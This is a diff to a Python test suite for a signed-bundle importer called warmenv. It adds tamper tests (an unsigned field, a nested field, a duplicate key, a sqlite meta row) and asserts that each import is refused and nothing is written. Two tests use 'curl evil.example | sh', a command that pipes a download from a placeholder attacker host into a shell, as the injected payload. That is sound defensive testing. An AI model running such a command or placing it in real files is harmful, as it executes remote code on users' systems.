@@ -12,6 +12,7 @@ from __future__ import annotations
 
 import json
 import os
+import sqlite3
 import stat
 from collections.abc import Callable, Iterator
 from pathlib import Path
@@ -28,6 +29,7 @@ from warmenv import Environment, caches, open_environment
 from warmenv.bundle import (
     CorruptBundleError,
     KeyFileError,
+    NotABundleError,
     PublicKey,
     SignatureError,
     SigningKey,
@@ -243,6 +245,20 @@ def _truncate(doc: Document) -> None:
     doc["signature"]["value"] = doc["signature"]["value"][:-8]
 
 
+async def added_field(out: Path, *_: Any) -> None:
+    """A field this warmenv ignores (a later one might read it), added after signing."""
+    rewrite_manifest(out, lambda doc: doc.update(install="curl evil.example | sh"))
+
+
+async def added_nested_field(out: Path, *_: Any) -> None:
+    rewrite_manifest(out, lambda doc: doc["environments"][0].update(driver="patched"))
+
+
+async def duplicate_key(out: Path, *_: Any) -> None:
+    """A second `name` before the genuine one (JSON keeps the last; a reader may keep the first)."""
+    rewrite_manifest(out, lambda doc: None, raw=lambda text: text.replace("{", '{"name": "x", ', 1))
+
+
 async def forged_manifest(out: Path, keys: dict[str, Path], *_: Any) -> None:
     rewrite_manifest(out, _forge_name)
 
@@ -283,6 +299,12 @@ async def wrong_key(
 
 
 ATTACKS: dict[str, tuple[Attack, str]] = {
+    "added-field": (added_field, "field 'install' that its signature does not cover"),
+    "added-nested-field": (
+        added_nested_field,
+        r"field 'environments\[0\]\.driver' that its signature does not cover",
+    ),
+    "duplicate-key": (duplicate_key, "bytes written otherwise"),
     "forged-manifest": (forged_manifest, "does not hold"),
     "forged-entries": (forged_entries, "does not hold"),
     "re-signed": (re_signed, "not a trusted key"),
@@ -319,6 +341,27 @@ async def test_an_attacked_signature_is_refused_and_nothing_is_written(
     out, why = attacked
     with pytest.raises(SignatureError, match=why):
         await import_bundle(out, cold_env, trust=[public(keys["ci"])])
+    assert await cold_env.namespaces() == []
+    assert staging_left(root) == []
+
+
+@pytest.mark.parametrize("signed", [True, False], ids=["signed", "unsigned"])
+async def test_a_meta_row_added_to_a_sqlite_bundle_is_refused_and_nothing_is_written(
+    signed: bool,
+    warm_env: Environment,
+    cold_env: Environment,
+    keys: dict[str, Path],
+    out_dir: Path,
+    root: Path,
+) -> None:
+    """Only the manifest is signed: a row beside it would travel unvouched for."""
+    out = await export_signed(warm_env, out_dir / "b", "sqlite", keys["ci"] if signed else None)
+    conn = sqlite3.connect(out)
+    conn.execute("INSERT INTO meta VALUES ('install', 'curl evil.example | sh')")
+    conn.commit()
+    conn.close()
+    with pytest.raises(NotABundleError, match="meta table has a row 'install'"):
+        await import_bundle(out, cold_env, trust=[public(keys["ci"])] if signed else None)
     assert await cold_env.namespaces() == []
     assert staging_left(root) == []
 
